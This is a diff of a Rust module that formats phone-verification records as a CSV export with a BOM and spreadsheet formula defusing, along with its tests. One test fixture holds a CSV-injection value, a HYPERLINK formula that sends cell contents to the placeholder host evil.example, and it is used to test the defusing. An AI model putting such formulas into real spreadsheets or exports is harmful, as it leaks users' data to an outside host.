@@ -1,7 +1,7 @@
 //! The admin `/export`: every verification as a CSV document, built in memory.
 //!
-//! Pure formatting, no Telegram and no database: the caller loads the [`ExportRow`]s and sends
-//! the bytes of [`to_csv`] as a file.
+//! Pure formatting, no Telegram and no database: the caller loads the [`ExportRecord`]s and
+//! sends the bytes of [`to_csv`] as a file.
 //!
 //! # Format
 //!
@@ -47,30 +47,7 @@
 
 use std::borrow::Cow;
 
-/// One verification as the export shows it.
-#[derive(Debug, Clone, PartialEq)]
-pub struct ExportRow {
-    /// When the verification was started, unix seconds.
-    pub created_at: i64,
-    /// Telegram user id of the staff member.
-    pub staff_id: i64,
-    /// The staff member's name as Telegram shows it (user-controlled).
-    pub staff_name: String,
-    /// The customer's number, E.164 (`+447911123456`).
-    pub phone: String,
-    /// The Gateway's request id, if the code was sent.
-    pub request_id: Option<String>,
-    /// How the verification ended (or `pending`).
-    pub final_status: String,
-    /// The Gateway's delivery status, if known.
-    pub delivery_status: Option<String>,
-    /// What the Gateway charged, in USD.
-    pub cost: Option<f64>,
-    /// Whether the Gateway refunded the cost.
-    pub refunded: bool,
-    /// When the code was last checked, unix seconds.
-    pub checked_at: Option<i64>,
-}
+use crate::store::ExportRecord;
 
 /// The CSV header, in column order.
 pub const HEADER: [&str; 10] = [
@@ -91,7 +68,7 @@ pub const BOM: &[u8] = b"\xEF\xBB\xBF";
 
 /// The CSV document: BOM, header, then one row per verification (see the module doc for every
 /// format decision).
-pub fn to_csv(rows: &[ExportRow]) -> Vec<u8> {
+pub fn to_csv(rows: &[ExportRecord]) -> Vec<u8> {
     let mut writer = csv::WriterBuilder::new()
         .terminator(csv::Terminator::CRLF)
         .from_writer(BOM.to_vec());
@@ -106,20 +83,20 @@ pub fn to_csv(rows: &[ExportRow]) -> Vec<u8> {
 }
 
 /// The fields of one row, in [`HEADER`] order.
-fn record(row: &ExportRow) -> [Cow<'_, str>; 10] {
+fn record(row: &ExportRecord) -> [Cow<'_, str>; 10] {
     fn text(value: &Option<String>) -> Cow<'_, str> {
         value.as_deref().map(defuse).unwrap_or_default()
     }
     [
         iso_utc(row.created_at).into(),
-        row.staff_id.to_string().into(),
-        defuse(&row.staff_name),
-        phone_cell(&row.phone),
+        row.staff_user_id.to_string().into(),
+        text(&row.staff_name),
+        phone_cell(row.phone.e164()),
         text(&row.request_id),
-        defuse(&row.final_status),
+        row.status.as_str().into(),
         text(&row.delivery_status),
-        row.cost.map(format_cost).unwrap_or_default().into(),
-        if row.refunded { "yes" } else { "no" }.into(),
+        row.request_cost.map(format_cost).unwrap_or_default().into(),
+        if row.is_refunded { "yes" } else { "no" }.into(),
         row.checked_at.map(iso_utc).unwrap_or_default().into(),
     ]
 }
@@ -185,59 +162,38 @@ fn format_cost(cost: f64) -> String {
     }
 }
 
-/// Unix seconds as ISO 8601 UTC, `2026-11-27T14:05:00Z` (years 0000–9999).
+/// Unix seconds as ISO 8601 UTC, `2026-11-27T14:05:00Z`; empty for a time jiff cannot hold.
 pub fn iso_utc(unix_seconds: i64) -> String {
-    let (year, month, day) = civil_from_days(unix_seconds.div_euclid(86_400));
-    let second_of_day = unix_seconds.rem_euclid(86_400);
-    let (hour, minute, second) = (
-        second_of_day / 3600,
-        second_of_day % 3600 / 60,
-        second_of_day % 60,
-    );
-    format!("{year:04}-{month:02}-{day:02}T{hour:02}:{minute:02}:{second:02}Z")
-}
-
-/// The proleptic Gregorian (year, month 1–12, day 1–31) of a day counted from 1970-01-01.
-///
-/// Howard Hinnant's `civil_from_days` (<https://howardhinnant.github.io/date_algorithms.html>):
-/// a dozen lines instead of a date crate; checked day by day against a naive calendar in the
-/// tests. Also used by [`crate::chart`] for its day labels.
-pub(crate) fn civil_from_days(days: i64) -> (i64, u32, u32) {
-    let z = days + 719_468; // days since 0000-03-01
-    let era = z.div_euclid(146_097);
-    let day_of_era = z.rem_euclid(146_097); // [0, 146096]
-    let year_of_era =
-        (day_of_era - day_of_era / 1460 + day_of_era / 36_524 - day_of_era / 146_096) / 365;
-    let day_of_year = day_of_era - (365 * year_of_era + year_of_era / 4 - year_of_era / 100);
-    let shifted_month = (5 * day_of_year + 2) / 153; // March = 0
-    let day = (day_of_year - (153 * shifted_month + 2) / 5 + 1) as u32;
-    let month = if shifted_month < 10 {
-        shifted_month + 3
-    } else {
-        shifted_month - 9
-    } as u32;
-    let year = year_of_era + era * 400 + i64::from(month <= 2);
-    (year, month, day)
+    jiff::Timestamp::from_second(unix_seconds)
+        .map(|t| t.strftime("%Y-%m-%dT%H:%M:%SZ").to_string())
+        .unwrap_or_default()
 }
 
 #[cfg(test)]
 mod tests {
     use super::*;
 
+    use crate::phone::PhoneNumber;
+    use crate::store::Status;
+
     /// 2026-11-27T14:05:00Z.
     const T: i64 = 1_795_788_300;
 
-    fn row() -> ExportRow {
-        ExportRow {
+    fn phone(e164: &str) -> PhoneNumber {
+        PhoneNumber::from_e164(e164).unwrap()
+    }
+
+    fn row() -> ExportRecord {
+        ExportRecord {
             created_at: T,
-            staff_id: 123_456_789,
-            staff_name: "Alice Smith".into(),
-            phone: "+447911123456".into(),
+            staff_user_id: 123_456_789,
+            staff_name: Some("Alice Smith".into()),
+            phone: phone("+447911123456"),
             request_id: Some("req_8f3a".into()),
-            final_status: "verified".into(),
+            status: Status::Verified,
             delivery_status: Some("delivered".into()),
-            cost: Some(0.01),
-            refunded: false,
+            request_cost: Some(0.01),
+            is_refunded: false,
             checked_at: Some(T + 95),
         }
     }
@@ -263,16 +219,16 @@ mod tests {
     #[test]
     fn every_field_round_trips() {
         let full = row();
-        let sparse = ExportRow {
+        let sparse = ExportRecord {
             created_at: 0,
-            staff_id: -1_001_234_567_890,
-            staff_name: String::new(),
-            phone: "+12025550123".into(),
+            staff_user_id: -1_001_234_567_890,
+            staff_name: None,
+            phone: phone("+12025550123"),
             request_id: None,
-            final_status: "pending".into(),
+            status: Status::Pending,
             delivery_status: None,
-            cost: None,
-            refunded: true,
+            request_cost: None,
+            is_refunded: true,
             checked_at: None,
         };
         let records = parse(&to_csv(&[full, sparse]));
@@ -336,8 +292,8 @@ mod tests {
     #[test]
     fn commas_quotes_and_newlines_are_quoted_rfc4180() {
         let name = "Smith, \"Bob\"\r\nthe second";
-        let doc = to_csv(&[ExportRow {
-            staff_name: name.into(),
+        let doc = to_csv(&[ExportRecord {
+            staff_name: Some(name.into()),
             ..row()
         }]);
         let text = std::str::from_utf8(&doc).unwrap();
@@ -356,8 +312,8 @@ mod tests {
     #[test]
     fn cyrillic_and_emoji_names_survive() {
         let name = "Дмитрий Иванов 🚀";
-        let doc = to_csv(&[ExportRow {
-            staff_name: name.into(),
+        let doc = to_csv(&[ExportRecord {
+            staff_name: Some(name.into()),
             ..row()
         }]);
         assert!(
@@ -392,8 +348,8 @@ mod tests {
         ];
         for (name, expected) in cases {
             assert_eq!(defuse(name), expected, "{name:?}");
-            let doc = to_csv(&[ExportRow {
-                staff_name: name.into(),
+            let doc = to_csv(&[ExportRecord {
+                staff_name: Some(name.into()),
                 ..row()
             }]);
             assert_eq!(parse(&doc)[1][2], expected, "{name:?}");
@@ -403,17 +359,13 @@ mod tests {
 
     #[test]
     fn other_text_columns_are_defused_too() {
-        let doc = to_csv(&[ExportRow {
+        let doc = to_csv(&[ExportRecord {
             request_id: Some("=1".into()),
-            final_status: "-x".into(),
             delivery_status: Some("@y".into()),
             ..row()
         }]);
         let record = &parse(&doc)[1];
-        assert_eq!(
-            (&*record[4], &*record[5], &*record[6]),
-            ("'=1", "'-x", "'@y")
-        );
+        assert_eq!((&*record[4], &*record[6]), ("'=1", "'@y"));
     }
 
     #[test]
@@ -468,7 +420,12 @@ mod tests {
         assert_eq!(iso_utc(-1), "1969-12-31T23:59:59Z");
         assert_eq!(iso_utc(951_782_400), "2000-02-29T00:00:00Z");
         assert_eq!(iso_utc(4_102_444_799), "2099-12-31T23:59:59Z");
-        assert_eq!(iso_utc(253_402_300_799), "9999-12-31T23:59:59Z");
+        assert_eq!(iso_utc(32_503_679_999), "2999-12-31T23:59:59Z");
+        assert_eq!(
+            iso_utc(i64::MAX),
+            "",
+            "out of range: an empty field, no panic"
+        );
     }
 
     /// Writes a sample to /tmp/export-sample.csv to open in a spreadsheet:
@@ -478,54 +435,24 @@ mod tests {
     fn write_sample() {
         let rows = [
             row(),
-            ExportRow {
-                staff_name: "Дмитрий; \"Дима\", Иванов".into(),
-                phone: "+79161234567".into(),
-                cost: Some(0.0125),
-                refunded: true,
+            ExportRecord {
+                staff_name: Some("Дмитрий; \"Дима\", Иванов".into()),
+                phone: phone("+79161234567"),
+                request_cost: Some(0.0125),
+                is_refunded: true,
                 ..row()
             },
-            ExportRow {
-                staff_name: "=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into(),
-                phone: "+12025550123".into(),
+            ExportRecord {
+                staff_name: Some("=HYPERLINK(\"http://evil.example/?\"&A1,\"x\")".into()),
+                phone: phone("+12025550123"),
                 request_id: None,
-                final_status: "failed".into(),
+                status: Status::Failed,
                 delivery_status: None,
-                cost: None,
+                request_cost: None,
                 checked_at: None,
                 ..row()
             },
         ];
         std::fs::write("/tmp/export-sample.csv", to_csv(&rows)).unwrap();
-    }
-
-    /// `civil_from_days` agrees with a naive calendar walk for every day of years 1–9999.
-    #[test]
-    fn civil_from_days_matches_a_naive_calendar() {
-        fn days_in_month(year: i64, month: u32) -> u32 {
-            let leap = (year % 4 == 0 && year % 100 != 0) || year % 400 == 0;
-            match month {
-                2 if leap => 29,
-                2 => 28,
-                4 | 6 | 9 | 11 => 30,
-                _ => 31,
-            }
-        }
-        let next = |(y, m, d): (i64, u32, u32)| {
-            if d < days_in_month(y, m) {
-                (y, m, d + 1)
-            } else if m < 12 {
-                (y, m + 1, 1)
-            } else {
-                (y + 1, 1, 1)
-            }
-        };
-        // 0001-01-01 is day -719162.
-        let mut date = (1, 1, 1);
-        for day in -719_162..=2_932_896 {
-            assert_eq!(civil_from_days(day), date, "day {day}");
-            date = next(date);
-        }
-        assert_eq!(date, (10_000, 1, 1));
     }
 }
